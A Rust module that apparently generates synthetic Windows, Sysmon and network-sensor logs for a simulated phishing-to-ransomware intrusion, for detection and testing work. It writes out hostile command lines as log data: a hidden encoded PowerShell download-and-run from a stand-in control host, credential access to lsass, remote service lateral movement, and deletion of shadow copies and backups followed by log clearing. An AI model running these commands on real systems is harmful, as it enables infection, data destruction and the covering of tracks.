//! An intrusion into the first tenant's network, told over the day by the ordinary events it leaves
//! behind, and by what a sensor and endpoint protection say of it.
//!
//! 09:12 a phished document starts encoded PowerShell · 09:40 looking around · 10:55 credentials
//! from memory · 11:30 by remote service to a server, 13:20 to the domain controller · all day a
//! control server · 15:50 backups and shadow copies deleted, files encrypted · 16:05 log cleared.

use super::clock::{MINUTE, Stamp};
use super::network::{self, BEACON, DOWNLOAD, Flow, REMOTE_SERVICE, Signature};
use super::random::Random;
use super::security::{self, LOGON, PROCESS, SCRIPT, SHARE};
use super::sysmon::{self, DNS, FILE_CREATE, NETWORK, PROCESS_ACCESS, PROCESS_CREATE, REGISTRY_VALUE};
use super::windows::{Kind, SECURITY_LOG_SERVICE, SERVICES, Text};
use super::world::{Collector, Host, Network, Role, World, encoded, hashes};
use super::write::Fields;
use super::{Fate, Message, Scene, json, sent, threats, windows_record};

const CONTROL_NAME: &str = "cdn-sync.invoice-portal.example";
const CONTROL_ADDRESS: &str = "203.0.113.66";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
const WORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
const IMPLANT: &str = r"C:\Users\Public\Libraries\syncsvc.exe";
const SERVICE: &str = r"C:\Windows\PSEXESVC.exe";

/// 7045, a service was installed.
const SERVICE_INSTALLED: Kind = Kind {
    channel: &SERVICES,
    id: 7045,
    version: 0,
    task: 0,
    category: "-",
    text: Text::Template(
        r"A new service was installed.\r\n\r\nService Name:  {ServiceName}\r\nService File Name:  {ImagePath}\r\nService Type:  {ServiceType}\r\nService Start Type:  {StartType}\r\nService Account:  {AccountName}",
    ),
};
/// 1102, the security log was cleared.
const LOG_CLEARED: Kind = Kind {
    channel: &SECURITY_LOG_SERVICE,
    id: 1102,
    version: 0,
    task: 104,
    category: "Log clear",
    text: Text::Template(
        r"The security log was cleared.\r\nSubject:\r\n\tSecurity ID:\t{SubjectUserSid}\r\n\tAccount Name:\t{SubjectUserName}\r\n\tDomain Name:\t{SubjectDomainName}\r\n\tLogon ID:\t{SubjectLogonId}",
    ),
};

/// All messages of the intrusion.
pub fn tell(world: &World, random: &mut Random, start_us: i64) -> Vec<Message> {
    let network = &world.networks[0];
    let mut story = Story { world, network, random, start_us, messages: Vec::new() };
    story.phishing();
    story.beacons();
    story.discovery();
    story.credentials();
    story.lateral(clock(11, 30), story.server());
    story.lateral(clock(13, 20), story.controller());
    story.impact();
    story.messages
}

/// Minutes since midnight.
const fn clock(hour: i64, minute: i64) -> i64 {
    hour * 60 + minute
}

struct Story<'a> {
    world: &'a World,
    network: &'a Network,
    random: &'a mut Random,
    start_us: i64,
    messages: Vec<Message>,
}

impl<'a> Story<'a> {
    fn named(&self, part: &str) -> &'a Host {
        let of_kind = |host: &&&Host| host.name.contains(part) && matches!(host.role, Role::Windows(_));
        let hosts = &self.network.hosts;
        let forwarded = |host: &&&Host| of_kind(host) && host.role == Role::Windows(Collector::Wef);
        hosts
            .iter()
            .find(|host| forwarded(&host))
            .or(hosts.iter().find(|host| of_kind(&host)))
            .unwrap_or(&hosts[0])
    }

    /// Where it begins.
    fn workstation(&self) -> &'a Host {
        self.named("-WS-")
    }

    fn server(&self) -> &'a Host {
        self.named("-SRV-")
    }

    fn controller(&self) -> &'a Host {
        self.named("-DC-")
    }

    /// Some moment in this minute; later calls for the same minute and second come later.
    fn moment(&mut self, minute: i64, second: i64) -> Stamp {
        let jitter = self.random.between(0, 900_000) as i64;
        Stamp::new(self.start_us + minute * MINUTE + second * 1_000_000 + jitter)
    }

    fn windows(&mut self, at: Stamp, host: &'a Host, kind: &'static Kind, fill: impl FnOnce(&mut Scene<'_>)) {
        let Role::Windows(collector) = host.role else { return };
        let mut fields = Fields::default();
        let (world, network) = (self.world, self.network);
        let mut scene = Scene { world, network, host, at, random: self.random, fields: &mut fields };
        fill(&mut scene);
        let payload = windows_record(&mut scene, collector, kind);
        self.messages.push(sent(&scene, Fate::Row, payload));
    }

    /// A process start as Sysmon and as the security log see it.
    fn process(&mut self, at: Stamp, host: &'a Host, image: &str, command: &str, parent: &str) {
        let hashes = hashes(self.random);
        self.windows(at, host, &PROCESS_CREATE, |scene| {
            sysmon::begin(scene);
            let user = format!("{}\\{}", scene.network.domain, scene.host.user);
            let fields = &mut *scene.fields;
            fields.number("ProcessId", scene.random.between(100, 3000) * 4);
            fields.text("Image", image);
            fields.text("CommandLine", command);
            fields.text("CurrentDirectory", r"C:\Users\Public\Libraries\");
            fields.text("User", &user);
            fields.text("IntegrityLevel", "High");
            fields.text("Hashes", &hashes);
            fields.number("ParentProcessId", scene.random.between(100, 3000) * 4);
            fields.text("ParentImage", parent);
            fields.text("ParentCommandLine", parent);
        });
        self.windows(at.later(3_000), host, &PROCESS, |scene| {
            security::subject(scene, false);
            let fields = &mut *scene.fields;
            fields.hexadecimal("NewProcessId", scene.random.between(0x100, 0x4000));
            fields.text("NewProcessName", image);
            fields.text("TokenElevationType", "%%1937");
            fields.hexadecimal("ProcessId", scene.random.between(0x100, 0x4000));
            fields.text("CommandLine", command);
            fields.text("ParentProcessName", parent);
            fields.text("MandatoryLabel", "S-1-16-12288");
        });
    }

    fn file(&mut self, at: Stamp, host: &'a Host, image: &str, file: &str) {
        self.windows(at, host, &FILE_CREATE, |scene| {
            sysmon::begin(scene);
            scene.fields.number("ProcessId", scene.random.between(100, 3000) * 4);
            scene.fields.text("Image", image);
            scene.fields.text("TargetFilename", file);
            scene.fields.with("CreationUtcTime", |out| Stamp::plain_millis(&scene.at, out));
        });
    }

    /// What the sensor says of a connection.
    fn alert(&mut self, at: Stamp, host: &Host, to: (&str, u64), signature: &Signature) {
        let Some(sensor) = self.network.hosts.iter().find(|host| host.role == Role::Sensor) else { return };
        let (world, network) = (self.world, self.network);
        let from_port = self.random.between(49_152, 65_535);
        let flow = Flow { from: &host.address, from_port, to: to.0, to_port: to.1, name: CONTROL_NAME };
        let mut fields = Fields::default();
        let mut scene = Scene { world, network, host: sensor, at, random: self.random, fields: &mut fields };
        let payload = json(&mut scene, "eve", |scene, out| network::alert(scene, out, &flow, signature));
        self.messages.push(sent(&scene, Fate::RowAndThreat, payload));
    }

    /// What endpoint protection says; `twice` as a producer that delivers at least once.
    fn detection(&mut self, at: Stamp, host: &Host, what: (&str, &str), technique: &str, twice: bool) {
        let message = threats::detection(self.network, host, at, self.random, what, technique);
        if twice {
            let later = at.us + 20 * 1_000_000;
            self.messages.push(Message { at_us: later, fate: Fate::Duplicate, ..message.clone() });
        }
        self.messages.push(message);
    }

    fn phishing(&mut self) {
        let host = self.workstation();
        let document = format!(r"C:\Users\{}\Downloads\Overdue invoice 4471.docm", host.user);
        let opened = format!(r#""{WORD}" /n "{document}""#);
        let script = format!(
            "$c = New-Object Net.WebClient; $c.DownloadFile('https://{CONTROL_NAME}/a/s.bin', '{IMPLANT}'); Start-Process '{IMPLANT}' -WindowStyle Hidden"
        );
        let command = format!("{POWERSHELL} -nop -w hidden -ep bypass -enc {}", encoded(&script));
        let at = [0, 9, 18, 27, 36, 45, 54, 63].map(|second| self.moment(clock(9, 12), second));
        self.file(at[0], host, r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", &document);
        self.process(
            at[1],
            host,
            WORD,
            &opened,
            r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
        );
        self.process(at[2], host, POWERSHELL, &command, WORD);
        self.detection(
            at[2].later(800_000),
            host,
            ("Office program started a script host", "high"),
            "T1059.001",
            false,
        );
        self.windows(at[3], host, &SCRIPT, |scene| security::script_of(scene, &script));
        self.windows(at[4], host, &DNS, |scene| {
            sysmon::begin(scene);
            let fields = &mut *scene.fields;
            fields.text("QueryName", CONTROL_NAME);
            fields.text("QueryStatus", "0");
            fields.text("QueryResults", &format!("::ffff:{CONTROL_ADDRESS};"));
            fields.text("Image", POWERSHELL);
        });
        self.connection(at[5], host, POWERSHELL);
        self.alert(at[5].later(400_000), host, (CONTROL_ADDRESS, 80), &DOWNLOAD);
        self.file(at[6], host, POWERSHELL, IMPLANT);
        self.process(at[6].later(2_000_000), host, IMPLANT, IMPLANT, POWERSHELL);
        self.windows(at[7], host, &REGISTRY_VALUE, |scene| {
            sysmon::begin(scene);
            scene.fields.text("EventType", "SetValue");
            scene.fields.text("Image", IMPLANT);
            let key = r"HKU\S-1-5-21-1000000000-1102-1104\Software\Microsoft\Windows\CurrentVersion\Run\LibrarySync";
            scene.fields.text("TargetObject", key);
            scene.fields.text("Details", IMPLANT);
        });
    }

    fn connection(&mut self, at: Stamp, host: &'a Host, image: &str) {
        self.windows(at, host, &NETWORK, |scene| {
            sysmon::begin(scene);
            let fields = &mut *scene.fields;
            fields.number("ProcessId", scene.random.between(100, 3000) * 4);
            fields.text("Image", image);
            fields.text("Protocol", "tcp");
            fields.text("Initiated", "true");
            fields.text("SourceIp", &scene.host.address);
            fields.number("SourcePort", scene.random.between(49_152, 65_535));
            fields.text("DestinationIp", CONTROL_ADDRESS);
            fields.text("DestinationHostname", CONTROL_NAME);
            fields.text("DestinationPort", "443");
        });
    }

    /// Every ten minutes until the end; the sensor notices each third.
    fn beacons(&mut self) {
        let host = self.workstation();
        for (count, minute) in (clock(9, 15)..clock(16, 0)).step_by(10).enumerate() {
            let at = self.moment(minute, 30);
            self.connection(at, host, IMPLANT);
            if count.is_multiple_of(3) {
                self.alert(at.later(200_000), host, (CONTROL_ADDRESS, 443), &BEACON);
            }
        }
    }

    fn discovery(&mut self) {
        const COMMANDS: &[(&str, &str)] = &[
            ("whoami.exe", "whoami /all"),
            ("systeminfo.exe", "systeminfo"),
            ("ipconfig.exe", "ipconfig /all"),
            ("nltest.exe", "nltest /domain_trusts /all_trusts"),
            ("net.exe", r#"net group "Domain Admins" /domain"#),
            ("net.exe", "net view /all /domain"),
            ("quser.exe", "quser"),
            ("tasklist.exe", "tasklist /svc"),
        ];
        let host = self.workstation();
        for (step, (image, command)) in COMMANDS.iter().enumerate() {
            let at = self.moment(clock(9, 40), step as i64 * 11);
            self.process(at, host, &format!(r"C:\Windows\System32\{image}"), command, IMPLANT);
        }
    }

    fn credentials(&mut self) {
        let host = self.workstation();
        let at = self.moment(clock(10, 55), 0);
        self.windows(at, host, &PROCESS_ACCESS, |scene| {
            sysmon::begin(scene);
            let fields = &mut *scene.fields;
            fields.number("SourceProcessId", scene.random.between(100, 3000) * 4);
            fields.text("SourceImage", IMPLANT);
            fields.text("TargetProcessId", "716");
            fields.text("TargetImage", r"C:\Windows\System32\lsass.exe");
            fields.text("GrantedAccess", "0x1410");
            let trace = r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|UNKNOWN(000001D2A1F40B17)";
            fields.text("CallTrace", trace);
        });
        self.file(at.later(4_000_000), host, IMPLANT, r"C:\Users\Public\Libraries\l.dat");
        self.detection(
            at.later(1_000_000),
            host,
            ("Memory of the sign-in process read", "critical"),
            "T1003.001",
            false,
        );
    }

    /// From the workstation to another machine by a remote service.
    fn lateral(&mut self, minute: i64, to: &'a Host) {
        let from = self.workstation();
        let mut at = self.moment(minute, 5);
        self.process(
            at,
            from,
            r"C:\Users\Public\Libraries\px.exe",
            &format!(r"px.exe \\{} -s -d {CMD}", to.name),
            IMPLANT,
        );
        self.alert(at.later(700_000), from, (&to.address, 445), &REMOTE_SERVICE);
        at = at.later(1_000_000);
        self.windows(at, to, &LOGON, |scene| {
            security::logon_of(scene, "3", Some((&from.name, &from.address)));
        });
        at = at.later(200_000);
        self.windows(at, to, &SHARE, |scene| security::share_of(scene, r"\\*\ADMIN$", "PSEXESVC.exe"));
        at = at.later(300_000);
        self.windows(at, to, &SERVICE_INSTALLED, |scene| {
            let fields = &mut *scene.fields;
            fields.text("ServiceName", "PSEXESVC");
            fields.text("ImagePath", r"%SystemRoot%\PSEXESVC.exe");
            fields.text("ServiceType", "user mode service");
            fields.text("StartType", "demand start");
            fields.text("AccountName", "LocalSystem");
        });
        at = at.later(300_000);
        self.windows(at, to, &SHARE, |scene| security::share_of(scene, r"\\*\IPC$", "PSEXESVC-stdin"));
        self.process(at.later(500_000), to, SERVICE, SERVICE, r"C:\Windows\System32\services.exe");
        self.process(at.later(900_000), to, CMD, CMD, SERVICE);
        self.detection(
            at.later(2_000_000),
            to,
            ("Service installed from another machine", "high"),
            "T1569.002",
            true,
        );
    }

    fn impact(&mut self) {
        const COMMANDS: &[(&str, &str)] = &[
            ("vssadmin.exe", "vssadmin delete shadows /all /quiet"),
            ("wbadmin.exe", "wbadmin delete catalog -quiet"),
            ("bcdedit.exe", "bcdedit /set {default} recoveryenabled no"),
        ];
        let host = self.server();
        for (step, (image, command)) in COMMANDS.iter().enumerate() {
            let at = self.moment(clock(15, 50), step as i64 * 7);
            self.process(at, host, &format!(r"C:\Windows\System32\{image}"), command, CMD);
        }
        let at = self.moment(clock(15, 51), 0);
        self.detection(at, host, ("Shadow copies deleted", "critical"), "T1490", false);
        for count in 0..40 {
            let at = self.moment(clock(15, 55), count);
            let file = format!(r"D:\shares\departments\finance\ledger-{:03}.xlsx.locked", 100 + count);
            self.file(at, host, r"C:\Windows\Temp\upd.exe", &file);
        }
        let at = self.moment(clock(15, 56), 0);
        self.detection(at, host, ("Many files encrypted in a short time", "critical"), "T1486", false);
        let at = self.moment(clock(16, 5), 0);
        self.process(at, host, r"C:\Windows\System32\wevtutil.exe", "wevtutil cl Security", CMD);
        self.windows(at.later(1_000_000), host, &LOG_CLEARED, |scene| security::subject(scene, false));
    }
}
